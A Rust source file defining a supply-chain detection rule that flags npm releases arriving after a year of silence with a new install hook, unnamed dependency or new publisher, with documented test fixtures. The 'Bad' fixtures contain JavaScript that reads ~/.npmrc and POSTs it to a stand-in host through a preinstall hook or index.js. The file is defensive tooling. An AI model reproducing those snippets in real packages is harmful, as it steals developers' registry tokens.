//! # A package that was silent for a year wakes with something new
//!
//! At least a year lies between the release and the one before it, and it brings an install hook, a dependency that no file
//! names, or an account that had published none of at least three releases before.
//!
//! ## Why it matters
//!
//! Accounts that nobody watches are taken over, and packages that nobody maintains are handed to whoever asks. The first
//! release after the silence is the attacker's.
//!
//! ## Known benign uses
//!
//! A maintainer who comes back, or a successor. Of 285,195 releases of 4,082 packages, measured in November 2026, 385
//! follow a year of silence, and two of these bring a first install hook. It never decides alone.
//!
//! ## Bad
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2019-01-01T00:00:00Z", "1.1.0": "2019-03-01T00:00:00Z", "1.2.0": "2019-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2019-01-01T00:00:00Z", "1.1.0": "2019-03-01T00:00:00Z", "1.2.0": "2019-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "_npmUser": {"name": "eve"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## Good
//!
//! ```package with packument
//! == package.json
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js"}
//! == index.js
//! exports.rows = (text) => text.split("\n");
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2019-01-01T00:00:00Z", "1.1.0": "2019-03-01T00:00:00Z", "1.2.0": "2019-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "_npmUser": {"name": "ann"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ```package with packument
//! == package.json
//! {"name": "text-rows", "version": "1.3.0", "main": "index.js"}
//! == index.js
//! exports.rows = (text) => text.split("\n");
//! == packument.json
//! {"name": "text-rows", "time": {"1.0.0": "2025-01-01T00:00:00Z", "1.1.0": "2025-03-01T00:00:00Z", "1.2.0": "2025-06-01T00:00:00Z", "1.3.0": "2025-09-08T00:00:00Z"},
//!   "versions": {"1.0.0": {"_npmUser": {"name": "ann"}}, "1.1.0": {"_npmUser": {"name": "ann"}}, "1.2.0": {"_npmUser": {"name": "ann"}},
//!   "1.3.0": {"_id": "a", "name": "text-rows", "version": "1.3.0", "main": "index.js", "_npmUser": {"name": "bob"},
//!     "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## References
//!
//! - event-stream: the handover of a package that nobody maintained (November 2018)
//! - the registry's documents, measured

use stockade_facts::registry::Novelty;

use crate::prelude::*;

/// A package that was silent for a year wakes with something new.
pub struct ReleaseAfterLongSilence;

impl Rule for ReleaseAfterLongSilence {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "release-after-long-silence",
            title: "A package that was silent for a year wakes with something new",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.002",
            covers: &["sleeper-account", "maintainer-handover", "maintainer-takeover"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let silence = facts.registry_entry().and_then(|entry| entry.history.silence_days);
        let Some(days) = silence.filter(|days| *days >= LEAST_DAYS) else { return };
        if let Some(novelty) = facts.novelties().first() {
            let brings = match novelty {
                Novelty::Hook(name) => format!("the hook `{}`", excerpt(name, 40)),
                Novelty::UnnamedDependency(name) => {
                    format!("the dependency `{}`, which no file names", excerpt(name, 80))
                }
                Novelty::Publisher(name) => format!("another publisher, `{}`", excerpt(name, 40)),
            };
            let does = format!("is the first release for {days} days and brings {brings}");
            found.in_manifest(&["version"], &does);
        }
    }
}

/// Silences of a year come before one release in 740, of two years before two in 285,195.
const LEAST_DAYS: u32 = 365;
